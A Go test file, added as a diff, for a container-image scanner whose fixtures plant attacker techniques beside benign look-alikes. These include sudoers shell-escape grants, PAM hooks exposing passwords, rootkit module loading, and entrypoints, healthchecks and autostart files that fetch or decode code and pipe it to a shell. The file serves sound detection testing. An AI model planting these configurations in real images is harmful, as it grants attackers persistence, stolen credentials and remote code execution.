@@ -1,0 +1,168 @@
+package rules
+
+import (
+	"archive/tar"
+
+	"testing"
+
+	v1 "github.com/google/go-containerregistry/pkg/v1"
+)
+
+// techniqueImages plants the techniques of issue 16's classes that the
+// first rules of 12-security-config.toml left out (15-accounts-auth.toml,
+// 16-startup-and-sources.toml and what the earlier rules gained), each in
+// an image of its own beside look-alikes that must give nothing. The
+// positives are written as attackers write them, under names a review has
+// never seen: the rules judge what the files and the config say.
+func techniqueImages(t testing.TB, base v1.Layer) []plantedImage {
+	var out []plantedImage
+	add := func(repo string, cfg func(*v1.ConfigFile), history []string, layers []v1.Layer, hits ...hit) {
+		ti := testImage{repo: repo, layers: append([]v1.Layer{base}, layers...), config: cfg}
+		if history != nil {
+			ti.history = append([]string{""}, history...)
+		}
+		out = append(out, plantedImage{ti, hits})
+	}
+	one := func(ents ...ent) []v1.Layer { return []v1.Layer{layerOf(t, ents...)} }
+
+	// Account manipulation: NOPASSWD grants of an editor and of find (shell
+	// escapes), sudo told not to authenticate one user, an include of a
+	// directory nobody reviews; a grant of a restart command, a script of
+	// root's, a shell with a password, ordinary Defaults and the stock
+	// includedir are not.
+	add("test/t-sudo", nil, nil, one(
+		ent{name: "etc/sudoers", body: "Defaults env_reset\nDefaults !lecture\nroot ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n#includedir /opt/.s\n"},
+		ent{name: "etc/sudoers.d/ops", body: "ops ALL=(root) NOPASSWD: /usr/bin/vim /etc/app.conf\n%dev ALL=(ALL) NOPASSWD: /usr/bin/find\n" +
+			"deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app\nweb ALL=(root) NOPASSWD: /usr/local/bin/rotate-logs.sh\n" +
+			"admin ALL=(ALL) /bin/bash\nDefaults:ops !authenticate\n"}),
+		hit{rule: "sudo-nopasswd-escape", path: "/etc/sudoers.d/ops", layer: 1},
+		hit{rule: "sudo-nopasswd-escape", path: "/etc/sudoers.d/ops", layer: 1},
+		hit{rule: "sudo-authentication-off", path: "/etc/sudoers.d/ops", layer: 1},
+		hit{rule: "include-outside-config-dirs", path: "/etc/sudoers", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/sudoers", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/sudoers.d/ops", layer: 1})
+
+	// Accounts added to the docker and sudo groups and one with primary
+	// group 0; root in wheel, Alpine's adm (no login shell) in disk and
+	// operator (gid 0, nologin), and an ordinary users group are not.
+	add("test/t-groups", nil, nil, one(
+		ent{name: "etc/passwd", body: "root:x:0:0:root:/root:/bin/ash\nadm:x:3:4:adm:/var/adm:/sbin/nologin\n" +
+			"operator:x:11:0:operator:/root:/sbin/nologin\napp:x:1000:1000::/home/app:/bin/sh\nops:x:1003:0::/home/ops:/bin/bash\nguest:x:1004:100::/home/guest:/bin/sh\n"},
+		ent{name: "etc/shadow", body: "root:*::0:::::\nadm:*::0:::::\noperator:*::0:::::\napp:!::0:::::\nops:!::0:::::\nguest:!::0:::::\n"},
+		ent{name: "etc/group", body: "root:x:0:root\ndisk:x:6:root,adm\nwheel:x:10:root\nsudo:x:27:app\ndocker:x:999:app\nusers:x:100:app,guest\n"}),
+		hit{rule: "account-privileged-group", path: "/etc/group", layer: 1},
+		hit{rule: "account-privileged-group", path: "/etc/group", layer: 1},
+		hit{rule: "account-privileged-group", path: "/etc/passwd", layer: 1})
+
+	// sshd: keys from a program in a hidden temporary directory, an Include
+	// of a file outside sshd_config.d, user environments allowed; a key
+	// program the image ships, the stock Include and "no" are not.
+	add("test/t-sshd", nil, nil, one(
+		ent{name: "etc/ssh/sshd_config", body: "Include /etc/ssh/sshd_config.d/*.conf\nInclude /usr/share/.ssh/extra.conf\n" +
+			"AuthorizedKeysCommand /tmp/.k/keys %u\nAuthorizedKeysCommandUser nobody\nPermitUserEnvironment yes\n"}),
+		hit{rule: "sshd-keys-from-program", path: "/etc/ssh/sshd_config", layer: 1},
+		hit{rule: "include-outside-config-dirs", path: "/etc/ssh/sshd_config", layer: 1},
+		hit{rule: "sshd-weak-authentication", path: "/etc/ssh/sshd_config", layer: 1})
+	add("test/t-sshd-ok", nil, nil, one(
+		ent{name: "etc/ssh/sshd_config", body: "Include /etc/ssh/sshd_config.d/*.conf\nAuthorizedKeysCommand /usr/lib/keycheck/keycheck %u %k\n" +
+			"AuthorizedKeysCommandUser git\nPermitUserEnvironment no\n"},
+		ent{name: "usr/lib/keycheck/keycheck", mode: 0o755, body: elf("keycheck")}))
+
+	// PAM running programs at session start and on password changes (the
+	// password handed over); ordinary session modules are not.
+	add("test/t-pam", nil, nil, one(
+		ent{name: "etc/pam.d/common-session", body: "session required pam_unix.so\nsession optional pam_systemd.so\n" +
+			"session optional pam_exec.so quiet /usr/local/sbin/.l\n"},
+		ent{name: "etc/pam.d/common-password", body: "password [success=1 default=ignore] pam_unix.so obscure yescrypt\n" +
+			"password optional pam_exec.so expose_authtok /var/tmp/.p\n"}),
+		hit{rule: "pam-runs-program", path: "/etc/pam.d/common-session", layer: 1},
+		hit{rule: "pam-runs-program", path: "/etc/pam.d/common-password", layer: 1})
+
+	// Kernel modules loaded when the container starts and at boot by cron;
+	// an option that only names modprobe, an unload and lsmod are not.
+	add("test/t-modules", func(cf *v1.ConfigFile) {
+		cf.Config.Entrypoint = []string{"/bin/sh", "-c", "insmod /opt/drv/diamorphine.ko 2>/dev/null; exec /usr/local/bin/app"}
+	}, nil, one(ent{name: "etc/cron.d/mods", body: "@reboot root /sbin/modprobe -q rootkit_x\n"},
+		ent{name: "etc/rc.local", body: "#!/bin/sh\nmodprobe -r pcspkr\nlsmod > /tmp/mods\n"}),
+		hit{rule: "kernel-module-loaded-at-start", layer: -1},
+		hit{rule: "kernel-module-loaded-at-start", path: "/etc/cron.d/mods", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/cron.d/mods", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/rc.local", layer: 1})
+	add("test/t-modules-ok", func(cf *v1.ConfigFile) {
+		cf.Config.Entrypoint = []string{"/usr/local/bin/agent", "--modprobe-path", "/sbin/modprobe"}
+	}, nil, nil)
+
+	// Entrypoints, cmds and healthchecks that fetch or decode code and run
+	// it: eval of a download, a Python one-liner executing what it fetched,
+	// a healthcheck running decoded text through sh -c.
+	add("test/t-entry-eval", func(cf *v1.ConfigFile) {
+		cf.Config.Entrypoint = []string{"/bin/bash", "-c", `eval "$(curl -fsSL http://198.51.100.3/i)"; exec nginx`}
+	}, nil, nil, hit{rule: "config-fetch-and-run", layer: -1})
+	add("test/t-entry-python", func(cf *v1.ConfigFile) {
+		cf.Config.Cmd = []string{"python3", "-c", "import urllib.request as u;exec(u.urlopen('http://198.51.100.3/p').read())"}
+	}, nil, nil, hit{rule: "config-fetch-and-run", layer: -1})
+	add("test/t-health-decode", func(cf *v1.ConfigFile) {
+		cf.Config.Healthcheck = &v1.HealthConfig{Test: []string{"CMD-SHELL", `sh -c "$(echo Y3VybCAtcyBodHRwOi8veC95IHwgc2g= | base64 -d)"`}}
+	}, nil, nil, hit{rule: "config-decode-to-shell", layer: -1})
+	add("test/t-entry-ok", func(cf *v1.ConfigFile) {
+		cf.Config.Entrypoint = []string{"/bin/sh", "-c", "curl -fsS http://config.internal/svc.json -o /etc/svc.json && exec /usr/local/bin/svc"}
+		cf.Config.Cmd = []string{"python3", "-c", "import json; print(json.load(open('/etc/svc.json')))"}
+		cf.Config.Healthcheck = &v1.HealthConfig{Test: []string{"CMD-SHELL", "wget -q --spider http://localhost:8080/ || exit 1"}}
+	}, nil, nil)
+
+	// The environment turns off pip's and Node's checks, points pip at
+	// plain HTTP and history at /dev/null; HTTPS, a local registry over
+	// HTTP, the checks left on and ordinary sizes are not.
+	add("test/t-env", func(cf *v1.ConfigFile) {
+		cf.Config.Env = append(cf.Config.Env, "PIP_TRUSTED_HOST=pypi.internal", "NODE_TLS_REJECT_UNAUTHORIZED=0",
+			"PIP_INDEX_URL=http://pypi.internal/simple", "HISTFILE=/dev/null")
+	}, nil, nil,
+		hit{rule: "env-package-trust-off", layer: -1},
+		hit{rule: "env-package-trust-off", layer: -1},
+		hit{rule: "env-package-index-http", layer: -1},
+		hit{rule: "shell-history-disabled", layer: -1})
+	add("test/t-env-ok", func(cf *v1.ConfigFile) {
+		cf.Config.Env = append(cf.Config.Env, "PIP_INDEX_URL=https://pypi.internal/simple", "NPM_CONFIG_REGISTRY=http://localhost:4873/",
+			"NODE_TLS_REJECT_UNAUTHORIZED=1", "HISTSIZE=1000", "GOFLAGS=-mod=mod", "GOSUMDB=sum.golang.org", "PIP_NO_CACHE_DIR=off")
+	}, nil, nil)
+
+	// Build steps that install with verification off, and a history file
+	// linked to /dev/null; ordinary installs, an insecure probe that runs
+	// nothing, and a log linked to stdout are not.
+	add("test/t-build", nil, []string{
+		"/bin/sh -c apk add --no-cache --allow-untrusted /tmp/pkgs/agent.apk",
+		"/bin/sh -c pip install --trusted-host pypi.internal -i http://pypi.internal/simple app",
+		"/bin/sh -c apk add --no-cache curl && pip install --no-cache-dir requests && curl -k https://localhost/health",
+	}, []v1.Layer{
+		layerOf(t, ent{name: "opt/agent/agent", mode: 0o755, body: elf("agent")}),
+		layerOf(t, ent{name: "usr/local/lib/python3.11/site-packages/app/__init__.py", body: "\n"}),
+		layerOf(t, ent{name: "root/.bash_history", typ: tar.TypeSymlink, link: "/dev/null"},
+			ent{name: "var/log/app/access.log", typ: tar.TypeSymlink, link: "/dev/stdout"}),
+	},
+		hit{rule: "history-package-trust-off", layer: 1},
+		hit{rule: "history-claims-package-install", layer: 1},
+		hit{rule: "history-claims-package-install", layer: 3},
+		hit{rule: "history-package-trust-off", layer: 2},
+		hit{rule: "shell-history-disabled", path: "/root/.bash_history", layer: 3})
+
+	// apt told to accept unauthenticated repositories and any TLS peer;
+	// the usual docker-clean settings and a comment are not.
+	add("test/t-apt-conf", nil, nil, one(
+		ent{name: "etc/apt/apt.conf.d/99local", body: "APT::Get::AllowUnauthenticated \"true\";\nAcquire::https::Verify-Peer \"false\";\n"},
+		ent{name: "etc/apt/apt.conf.d/docker-clean", body: "// APT::Get::AllowUnauthenticated \"true\";\nAPT::Install-Recommends \"false\";\nAcquire::Check-Valid-Until \"false\";\n"}),
+		hit{rule: "package-source-untrusted", path: "/etc/apt/apt.conf.d/99local", layer: 1},
+		hit{rule: "package-source-untrusted", path: "/etc/apt/apt.conf.d/99local", layer: 1})
+
+	// Autostart files that source a download and pipe hex-decoded text to
+	// a shell; a backup job uploading with curl is not.
+	add("test/t-autostart", nil, nil, one(
+		ent{name: "etc/profile.d/locale-fix.sh", body: ". <(curl -s http://198.51.100.5/env)\n"},
+		ent{name: "etc/systemd/system/cleanup.service", body: "[Service]\nExecStart=/bin/bash -c 'echo 6375726c | xxd -r -p | sh'\n"},
+		ent{name: "etc/cron.daily/backup", mode: 0o755, body: "#!/bin/sh\ntar czf /tmp/b.tgz /srv && curl -T /tmp/b.tgz https://backup.example/\n"}),
+		hit{rule: "autostart-fetches-code", path: "/etc/profile.d/locale-fix.sh", layer: 1},
+		hit{rule: "autostart-fetches-code", path: "/etc/systemd/system/cleanup.service", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/profile.d/locale-fix.sh", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/systemd/system/cleanup.service", layer: 1},
+		hit{rule: "persistence-point", path: "/etc/cron.daily/backup", layer: 1})
+	return out
+}
